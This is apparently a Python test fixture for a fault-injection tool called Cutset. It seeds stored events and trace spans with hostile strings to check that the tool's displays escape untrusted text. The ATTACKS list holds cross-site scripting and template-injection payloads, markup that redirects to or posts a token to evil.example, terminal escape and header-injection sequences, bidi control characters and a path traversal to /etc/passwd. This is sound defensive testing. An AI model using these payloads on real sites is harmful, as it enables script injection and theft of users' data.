"""A store in which every text that comes from elsewhere is an attack on whoever shows it.

The events are those of real loops, of real types; each name, reason, answer, log line and address in them carries
markup, an escape sequence, letters that reverse the writing, or ten thousand letters more. Equal texts stay equal, so
that what belongs together still does. A script that runs calls `window.__pwned`, or opens a dialog.
"""

import json
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from pathlib import Path
from typing import Any

from tests.samples import drill, reproduction
from tests.samples.hardening_result import CHANGE
from tests.samples.impacts import impact_events
from tests.samples.otlp_shop import LINES
from tests.samples.recorded_campaign import recorded_campaign

from cutset.app.ingest import ingest_traces
from cutset.model.drill import DrillFinished, DrillsPlanned, Phase, PhaseBegan, ServiceStarted
from cutset.model.effect import Effect, EffectChoice
from cutset.model.event import CampaignStarted, ExperimentFinished, RequestAudited, RequestFinished
from cutset.model.evidence import EvidenceKept, KeptAnswer, KeptSpan, Teller
from cutset.model.fault import BASELINE, Cut, Fault
from cutset.model.hardening import (
    CallsObserved,
    CutRechecked,
    Effort,
    HardeningStarted,
    HealthJudged,
    Latency,
    MeshChanged,
)
from cutset.model.outcome import Outcome, Verdict
from cutset.model.point import Point
from cutset.model.reproduction.event import (
    GoodRunFinished,
    OracleAnswer,
    ProgramAnalysed,
    RankedSite,
    ReproductionFinished,
    RoundFinished,
    RoundStage,
)
from cutset.model.run import Loop, RunFinished, RunStarted
from cutset.model.span import SpanKind
from cutset.model.steps import finished
from cutset.store.ledger import open_ledger

ATTACKS = (
    "<script>window.__pwned=1;alert(1)</script>",
    '"\'><img src=x onerror="window.__pwned=1">',
    "</title></style></textarea></script></pre><svg onload=window.__pwned=1>",
    "' onmouseover='window.__pwned=1' autofocus onfocus='window.__pwned=1' x='",
    "javascript:window.__pwned=1",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "{{constructor.constructor('window.__pwned=1')()}}${window.__pwned=1}",
    "]]>--><!--<base href=//evil.example><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/x)}</style>",
    "<form action=http://evil.example><input name=token><button>continue</button></form>",
    "\x1b[2J\x1b]0;owned\x07\x08\x00\r\nSet-Cookie: x=1",
    "\u202ereversed\u2066isolated\u200bnothing\ufeff",
    "&lt;b&gt;&amp;&#x3c;script&#x3e;",
    "`code` [link](http://evil.example) | @everyone #1",
    "../../../../etc/passwd?x=1&y=2#z%2f%00",
    "ĤËΛ𝕃🔥" + "W" * 10_000,
)
# What Cutset itself wrote, and reads back: it is no text of others.
OUR_OWN = frozenset(
    {"run", "content_type", "campaign", "part_of", "points", "strategy", "certificates", "across_requests"}
)
SERVICES = 300
BEGIN = 1_800_000_000.0  # Unix seconds
CAMPAIGN, WIDE_CAMPAIGN = "20270101-000001-000001", "20270101-000002-000002"


def hostile(text: str) -> str:
    """The same for equal texts; what is empty says something by that, and stays so."""
    return f"{text}{ATTACKS[zlib.crc32(text.encode()) % len(ATTACKS)]}" if text else text


def poisoned(value: Any) -> Any:
    if isinstance(value, Enum | Path | Effect | EffectChoice) or value is None:
        return value
    if isinstance(value, str):
        return hostile(value)
    if isinstance(value, frozenset | tuple):
        return type(value)(map(poisoned, value))
    if isinstance(value, Mapping):
        return {poisoned(name): poisoned(item) for name, item in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        theirs = {each.name: getattr(value, each.name) for each in fields(value) if each.name not in OUR_OWN}
        return replace(value, **{name: poisoned(each) for name, each in theirs.items() if name != "occurrence"})
    return value


def fill_hostile_store(store: Path) -> int:
    """Runs of all loops, and spans; returns how many texts are attacks."""
    beside = store.parent / "beside"
    runs = {
        CAMPAIGN: (Loop.CAMPAIGN, _campaign(beside)),
        WIDE_CAMPAIGN: (Loop.CAMPAIGN, _wide_campaign()),
        "20270101-000003-000003": (Loop.HARDENING, _hardening()),
        **_other_runs(beside),
    }
    texts = _record(store, runs, poisoned)
    _ingest(store, (json.dumps(_poisoned_spans(json.loads(line))) for line in LINES))
    return texts


def fill_harmless_store(store: Path) -> None:
    """The same drills, impact, reproduction and spans, as they are without the attacks."""
    _record(store, _other_runs(store.parent / "beside"), lambda event: event)
    _ingest(store, LINES)


Runs = Mapping[str, tuple[Loop, Iterable[Any]]]


def _other_runs(beside: Path) -> Runs:
    beside.mkdir(parents=True, exist_ok=True)
    return {
        "20270101-000004-000004": (Loop.DRILL, _drills()),
        "20270101-000005-000005": (Loop.IMPACT, [*impact_events(marked_per_second=8, others_per_second=40)][1:-1]),
        "20270101-000006-000006": (Loop.REPRODUCTION, _reproduction(beside)),
    }


def _record(store: Path, runs: Runs, altered: Callable[[Any], Any]) -> int:
    texts = 0
    with open_ledger(store) as ledger:
        for number, (run, (loop, events)) in enumerate(runs.items()):
            started = altered(RunStarted(loop=loop, run=run, command="explore", config="/shop/cutset.yaml"))
            for moment, event in enumerate((started, *map(altered, events), RunFinished())):
                ledger.append(run, event, at=BEGIN + 1000 * number + moment / 100)
                texts += sum(repr(event).count(repr(attack)[1:-1]) for attack in ATTACKS)
    return texts


def _ingest(store: Path, lines: Iterable[str]) -> None:
    spans = store.parent / "spans.jsonl"
    spans.write_text("\n".join(lines))
    finished(ingest_traces(store, [str(spans)]))


def _campaign(folder: Path) -> Iterator[Any]:
    """Of simulated requests, as it is recorded; what the user is told is what servers say."""
    recorded_campaign(folder / "simulated")
    with open_ledger(folder / "simulated") as ledger:
        for event in ledger.events("only"):
            if isinstance(event, RequestAudited):
                yield _evidence(event.request, BASELINE, 200)
            if isinstance(event, ExperimentFinished) and event.outcome.verdict is Verdict.FAILED:
                yield _evidence(event.request, event.outcome.cut, 500)
                said = {"reason": "500 `cannot serve you`", "says": "cannot serve you", "trace_ids": ("a1",)}
                yield replace(event, outcome=replace(event.outcome, **said))
            elif not isinstance(event, RunStarted | RunFinished | EvidenceKept):
                yield event


def _evidence(request: str, cut: Cut, status: int) -> EvidenceKept:
    """An answer that tries everything, and the calls behind it."""
    page = f"<!doctype html><title>shop</title><body onload=parent.__pwned=1>{''.join(ATTACKS)}<p>{request}</body>"
    spans = (
        KeptSpan("a", "", Teller.MESH, "web", "GET /", SpanKind.SERVER, 0, 5000, error=True, status="500"),
        KeptSpan("b", "a", Teller.SERVICE, "web", "render", SpanKind.CLIENT, 90, 950),
        KeptSpan("c", "a", Teller.MESH, "cart", "Get", SpanKind.SERVER, 99, 900, error=True, status="14", fault="503"),
    )
    answer = KeptAnswer(status, "text/html", page, len(page.encode()), 0.01)
    return EvidenceKept(request=request, cut=cut, trace_id="a1", answer=answer, spans=spans)


def _wide_campaign() -> Iterator[Any]:
    """Many services that call each other in a tree, each of which is needed."""
    calls = [Point(f"service-{number}", "Get") for number in range(SERVICES)]
    edges = tuple((calls[(number - 1) // 3], call) for number, call in enumerate(calls) if number)
    yield CampaignStarted(requests=("GET /wide",), max_size=1, points="api", strategy="cuts")
    yield RequestAudited(
        request="GET /wide",
        healthy=True,
        reason="",
        calls=frozenset(calls),
        not_reached=frozenset(),
        trace_ids=(),
        runs=(Outcome(frozenset(), Verdict.SURVIVED, path=frozenset(calls), calls=frozenset(calls)),),
        edges=edges,
    )
    for call in calls[:40]:
        cut = frozenset({Fault(call, Effect.parse("abort(503,<script>)"))})
        failed = Outcome(
            cut, Verdict.FAILED, "500 `no`", fired=frozenset({call}), calls=frozenset(calls), healthy_after=True
        )
        yield ExperimentFinished(request="GET /wide", outcome=failed, round=1, left=260)
    yield RequestFinished(request="GET /wide", complete_up_to=0, reason="the budget of 40 experiments is spent")


def _hardening() -> Iterator[Any]:
    ads = frozenset({Fault(Point("ads", "Get"))})
    effort = {"GET /": Effort(0.1, 10, 5, 3, 0.05, 0.2)}
    yield HardeningStarted(campaign=CAMPAIGN)
    yield CallsObserved(efforts=effort, latencies={Point("ads", "Get"): Latency(10, 0.1, 0.2, 0.3, 0.4, "here")})
    yield CHANGE
    yield MeshChanged()
    yield HealthJudged(runs=3, ill={"GET /": "500 `no`"})
    yield CallsObserved(efforts=effort)
    yield CutRechecked(request="GET /", outcome=Outcome(ads, Verdict.FAILED, "500 `no`"), expected_gone=True)


def _drills() -> Iterator[Any]:
    results = (drill.FAILED, drill.UNKNOWN, drill.PASSED)
    yield DrillsPlanned(tests=(drill.TEST,))
    yield ServiceStarted(number=1)
    yield PhaseBegan(test=drill.TEST, phase=Phase.FAULT)
    for number, result in enumerate(results):
        yield DrillFinished(result=replace(result, test=replace(result.test, step=number)), subject="shop")


def _reproduction(folder: Path) -> Iterator[Any]:
    found = reproduction.sample(folder)
    assert found.best
    for name in ("diskqueue.py", "run.log"):
        (folder / name).write_text(
            "".join(f"{line}  # {hostile(line)!r}\n" for line in (folder / name).read_text().split("\n"))
        )
    yield GoodRunFinished(1, 1, 0.5, ("slow",), (folder / "run.log",))
    yield ProgramAnalysed(3, 400, 0.2, 12, 5, 90, ("unused",), ("cannot write",), 3, ("bad.py: no",), 0)
    yield RoundFinished(
        number=1,
        stage=RoundStage.SINGLE,
        fired=found.best.faults[0],
        answer=OracleAnswer.YES,
        reason="line 9 matches",
        missing=("compacted",),
        seconds=1.5,
        folder=folder,
        ranking=(RankedSite("file.write", "OSError at 3", "the log names it"),),
        logs=(folder / "run.log",),
    )
    yield ReproductionFinished(found)


def _poisoned_spans(value: Any) -> Any:
    """What services and their spans are called, and what they say."""
    if isinstance(value, list):
        return [_poisoned_spans(each) for each in value]
    if not isinstance(value, dict):
        return value
    return {
        name: hostile(each) if name in ("stringValue", "name") and each != "grpc" else _poisoned_spans(each)
        for name, each in value.items()
    }
